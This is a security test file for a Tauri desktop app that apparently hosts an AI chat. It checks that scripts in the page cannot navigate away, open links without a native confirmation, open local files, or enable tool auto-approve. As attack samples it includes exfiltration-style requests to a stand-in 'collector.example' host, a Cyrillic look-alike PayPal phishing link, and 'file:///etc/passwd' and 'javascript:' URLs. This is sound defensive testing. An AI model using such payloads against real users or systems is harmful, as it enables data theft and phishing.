// The trust boundary in the real window, as a script running in the page would try it: the
// window never leaves the app (location, a form, window.open, a clicked link), a link opens only
// after Rust's native dialog has shown its real host, and neither auto-approve nor a link to a
// local file can be had by calling the app's commands directly.
import assert from "node:assert/strict";
import fs from "node:fs";
import path from "node:path";
import { test } from "node:test";
import { setTimeout as sleep } from "node:timers/promises";
import { launch, nativeWindow, pressIn, run, screenshotScreen, sidebarIds, tempHome, textOf, tid } from "./harness.mjs";

/** Calls one of the app's commands straight from the page, as a hostile script could. */
function invokeFromPage(b, command, args) {
  return b.executeAsync(
    (command, args, done) => {
      window.__TAURI_INTERNALS__.invoke(command, args).then(
        (value) => done({ ok: true, value }),
        (error) => done({ ok: false, kind: error?.kind ?? String(error) }),
      );
    },
    command,
    args,
  );
}

/** No native window titled `title` appears within `ms`. */
async function noNativeWindow(title, ms = 1500) {
  await sleep(ms);
  assert.equal(run("xdotool", ["search", "--name", title]).stdout.trim(), "", `a window “${title}” appeared`);
}

test("window_never_navigates_away and a link opens only after its real host is shown", async () => {
  const home = tempHome("threat-navigation");
  const opened = path.join(home, "browser-opened");
  const browser = path.join(home, "browser.sh");
  fs.writeFileSync(browser, `#!/bin/sh\nprintf '%s\\n' "$1" >> '${opened}'\n`, { mode: 0o755 });
  const app = await launch(home, { BROWSER: browser });
  try {
    const b = app.browser;
    const own = await b.execute(() => location.href);
    assert.match(own, /^tauri:\/\/localhost/);

    // A script, a form and a pop-up all stay put.
    await b.execute(() => location.assign("https://collector.example/stolen?data=1"));
    await sleep(800);
    assert.equal(await b.execute(() => location.href), own, "location.assign left the app");
    await b.execute(() => {
      const form = document.createElement("form");
      form.action = "https://collector.example/post";
      form.method = "post";
      document.body.append(form);
      form.submit();
    });
    await sleep(800);
    assert.equal(await b.execute(() => location.href), own, "a form left the app");
    await b.execute(() => window.open("https://collector.example/popup"));
    await sleep(800);
    assert.equal((await b.getWindowHandles()).length, 1, "a pop-up opened");
    await b.$(tid("new-conversation")).click();
    await b.waitUntil(async () => (await sidebarIds(b)).length === 1, { timeoutMsg: "the app stopped working" });

    // A link as a model writes it, with a look-alike host ("pаypal", Cyrillic а).
    await b.execute(() => {
      const link = document.createElement("a");
      link.href = "https://p\u0430ypal.com/signin";
      link.textContent = "Sign in to PayPal";
      link.id = "hostile-link";
      link.style.cssText = "position:fixed;left:40%;top:40%;z-index:99;font-size:24px;background:#fff";
      document.body.append(link);
    });
    await b.$("#hostile-link").click();
    let dialog = await nativeWindow("Open xn--pypal-4ve.com in your browser?");
    screenshotScreen("threat-link-dialog");
    pressIn(dialog, "Escape");
    await sleep(800);
    assert.ok(!fs.existsSync(opened), "a link opened that the person did not allow");
    assert.equal(await b.execute(() => location.href), own, "a clicked link navigated the window");

    await b.$("#hostile-link").click();
    dialog = await nativeWindow("Open xn--pypal-4ve.com in your browser?");
    pressIn(dialog, "alt+o");
    await b.waitUntil(() => fs.existsSync(opened), { timeout: 10000, timeoutMsg: "the allowed link did not open" });
    assert.equal(fs.readFileSync(opened, "utf8"), "https://xn--pypal-4ve.com/signin\n");
    assert.equal(await b.execute(() => location.href), own);

    // Straight to the command: a local file or another scheme opens nothing and asks nothing.
    for (const url of ["file:///etc/passwd", "search-ms:query=x", "javascript:alert(1)"]) {
      const answer = await invokeFromPage(b, "open_link", { url });
      assert.deepEqual(answer, { ok: false, kind: "invalid_input" }, url);
    }
    await noNativeWindow("in your browser?");
    assert.equal(fs.readFileSync(opened, "utf8").trim().split("\n").length, 1);
  } finally {
    await app.close();
  }
});

test("webview_cannot_turn_on_auto_approve_without_native_confirmation", async () => {
  const home = tempHome("threat-auto-approve");
  const app = await launch(home);
  try {
    const b = app.browser;
    await b.$(tid("new-conversation")).click();
    await b.waitUntil(async () => (await sidebarIds(b)).length === 1, { timeoutMsg: "no conversation" });
    const [id] = await sidebarIds(b);
    const toggle = tid("auto-approve");

    // A script asks Rust directly: the native dialog appears; closed, nothing changed.
    const asked = invokeFromPage(b, "set_auto_approve", { conversationId: id, on: true });
    let dialog = await nativeWindow("Run every tool without asking");
    screenshotScreen("threat-auto-approve-dialog");
    pressIn(dialog, "Escape");
    assert.deepEqual(await asked, { ok: false, kind: "not_confirmed" });
    const stored = await invokeFromPage(b, "get_conversation", { id });
    assert.equal(stored.value.conversation.auto_approve, false);

    // The person turns it on with the button and says yes in the dialog.
    await b.$(toggle).click();
    dialog = await nativeWindow("Run every tool without asking");
    pressIn(dialog, "alt+r");
    await b.waitUntil(async () => (await b.$(toggle).getAttribute("aria-pressed")) === "true", {
      timeoutMsg: "auto-approve did not turn on after the person confirmed it",
    });
    assert.equal(await textOf(b, toggle), "Auto-approve on");
    // Off needs no dialog.
    await b.$(toggle).click();
    await b.waitUntil(async () => (await b.$(toggle).getAttribute("aria-pressed")) === "false", {
      timeoutMsg: "auto-approve did not turn off",
    });
    await noNativeWindow("Run every tool without asking", 800);
  } finally {
    await app.close();
  }
});
